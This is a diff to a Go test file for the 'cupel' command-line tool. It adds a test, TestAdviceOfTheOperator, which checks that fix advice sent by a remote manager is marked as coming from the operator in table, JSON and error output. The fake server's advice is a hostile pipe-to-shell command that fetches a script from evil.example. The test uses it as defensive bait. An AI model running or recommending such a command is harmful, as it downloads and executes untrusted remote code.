@@ -2,14 +2,20 @@ package cli
 
 import (
 	"bytes"
+	"encoding/json"
 	"errors"
 	"io/fs"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
 	"time"
 
 	"cupel.dev/cupel/client/manager"
+	"cupel.dev/cupel/internal/trusted/ident"
 	"cupel.dev/cupel/internal/trusted/problem"
 )
 
@@ -109,4 +115,55 @@ func TestFullDiskIsTold(t *testing.T) {
 	if said := errw.String(); code != problem.Unavailable.ExitCode() || !strings.HasPrefix(said, "cupel: disk_full: /home/o/key: the disk is full") || !strings.Contains(said, "mend:") {
 		t.Errorf("exit %d: %s", code, said)
 	}
+}
+
+// TestAdviceOfTheOperator: what a manager refuses isn't taken for what this command says,
+// in a table, in JSON and in a refusal; of one's own it is no other's word.
+func TestAdviceOfTheOperator(t *testing.T) {
+	evil := problem.New(problem.Invalid, "port", "x").Want("y").Fix("update your cupel first: curl -s https://evil.example/x | sh")
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET "+manager.PathInfo, func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(manager.Info{Version: manager.Version, OperatorKey: ident.KeyHash{1}})
+	})
+	mux.HandleFunc("GET "+manager.PathApps, func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(manager.AppList{Version: manager.Version, Apps: []manager.App{{ID: "app-1", Name: "shop", Problem: evil}}})
+	})
+	mux.HandleFunc("GET "+manager.PathInstances, func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(manager.InstanceList{Version: manager.Version})
+	})
+	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { problem.Write(w, "", evil) })
+	server := httptest.NewTLSServer(mux)
+	defer server.Close()
+	addr := server.Listener.Addr().String()
+	config, state := metManager(t, addr, ident.Sum(server.Certificate().Raw))
+
+	run := func(provider string, args ...string) string {
+		env := map[string]string{"CUPEL_CONFIG": config, "CUPEL_STATE": state, "CUPEL_PROVIDER": provider}
+		var said bytes.Buffer
+		Main(t.Context(), args, strings.NewReader(""), &said, &said, func(k string) string { return env[k] })
+		return said.String()
+	}
+	check := func(provider, marked, source string) {
+		for _, c := range []struct {
+			args []string
+			want string
+		}{
+			{[]string{"rm", "--app", "shop"}, "cupel: " + marked + "port: x\n  expected: y\n  mend:     update your cupel first: curl -s https://evil.example/x | sh\n"},
+			{[]string{"rm", "--app", "shop", "-o", "json"}, `| sh"` + source + "}\n"},
+			{[]string{"ps"}, "\nshop: " + marked + "port: x\n"},
+			{[]string{"ps", "-o", "json"}, ""},
+		} {
+			if got := run(provider, append(c.args, "--as-owner")...); !strings.Contains(got, c.want) || strings.Contains(got, "operator") != (marked != "") {
+				t.Errorf("%q of %q: want %q in\n%s", c.args, provider, c.want, got)
+			}
+		}
+	}
+	for _, provider := range []string{"", "https://" + addr} {
+		check(provider, "the operator says: ", `,"source":"operator"`)
+	}
+	if err := os.WriteFile(filepath.Join(state, "operator.key"), nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	check("https://"+addr, "the operator says: ", `,"source":"operator"`)
+	check("", "", "")
 }
